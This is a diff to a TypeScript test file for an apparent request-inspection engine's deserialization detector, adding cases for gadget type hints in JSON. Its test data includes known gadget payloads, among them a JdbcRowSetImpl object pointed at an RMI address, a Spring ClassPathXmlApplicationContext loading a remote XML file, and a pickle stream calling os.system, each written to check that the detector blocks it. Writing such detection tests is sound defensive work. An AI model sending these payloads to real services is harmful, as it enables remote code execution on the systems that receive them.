@@ -1,5 +1,6 @@
 import t from 'tap';
-import { detectDeserialization } from '../../src/detectors/deserialization';
+import { detectDeserialization, detectDeserializationTypeHint } from '../../src/detectors/deserialization';
+import { createEngine } from '../../src/engine';
 
 /** Base64 of a string, for building encoded vectors without copying any payload list. */
 const b64 = (s: string): string => Buffer.from(s, 'latin1').toString('base64');
@@ -223,4 +224,40 @@ t.test('markers inside longer text, on both sides of the long-value scan', async
   // Trailing whitespace keeps a pickle stream's STOP last and a binary pickle's header first.
   t.equal(detectDeserialization("cos\nsystem\n(S'true'\ntR." + ' '.repeat(120))?.confidence, 'high', 'padded pickle');
   t.equal(detectDeserialization('aced' + ' '.repeat(120) + '0005'), undefined, 'split hex header');
+});
+
+t.test('type hints in a parsed document: the key and the value together', async (t) => {
+  const high: Array<[string, string]> = [
+    ['@type', 'com.sun.rowset.JdbcRowSetImpl'],
+    ['@type', 'LLcom.sun.rowset.JdbcRowSetImpl;;'],
+    ['@type', '[com.sun.rowset.JdbcRowSetImpl'],
+    ['@class', 'com.sun.rowset.JdbcRowSetImpl'],
+    ['$type', 'System.Windows.Data.ObjectDataProvider'],
+    ['__type', 'ObjectDataProvider:#System.Windows.Data'],
+    ['__type', 'System.Windows.Data.ObjectDataProvider:#System.Windows.Data'],
+    ['[0]', 'org.springframework.context.support.ClassPathXmlApplicationContext'],
+  ];
+  for (const [k, v] of high) t.equal(detectDeserializationTypeHint(k, v)?.confidence, 'high', `${k}: ${v}`);
+  const none: Array<[string, string]> = [
+    ['@type', 'Person'],
+    ['@type', 'https://schema.org/Person'],
+    ['$type', 'MyApp.Models.Order, MyApp'],
+    ['@class', 'com.example.shop.Order'],
+    ['__type', 'Order:#MyCompany.Shop'],
+    ['name', 'com.sun.rowset.JdbcRowSetImpl'],
+    ['[0]', 'Small'],
+    ['Lunch', 'Lorem ipsum dolor'],
+  ];
+  for (const [k, v] of none) t.equal(detectDeserializationTypeHint(k, v), undefined, `${k}: ${v}`);
+
+  // Through the engine: a parsed JSON body, where keys and values are walked apart.
+  const e = createEngine();
+  const inspect = (doc: unknown) =>
+    e.inspect({ method: 'POST', path: '/x', sources: [{ kind: 'body', path: 'body', value: JSON.stringify(doc), decoding: 'body', contentType: 'application/json' }] });
+  const fj = inspect({ order: { '@type': 'com.sun.rowset.JdbcRowSetImpl', dataSourceName: 'rmi://h.invalid/a', autoCommit: true } });
+  t.equal(fj.action, 'block');
+  t.ok(fj.findings.some((f) => f.rule === 'deser.gadget-type-hint' && f.path === 'body.order["@type"]'), JSON.stringify(fj.findings));
+  const wrapper = inspect({ a: ['org.springframework.context.support.ClassPathXmlApplicationContext', 'https://h.invalid/x.xml'] });
+  t.ok(wrapper.findings.some((f) => f.rule === 'deser.gadget-type-wrapper' && f.path === 'body.a[0]'), JSON.stringify(wrapper.findings));
+  t.same(inspect({ '@context': 'https://schema.org', '@type': 'Person', sizes: ['Small', 'Medium'] }).findings, []);
 });
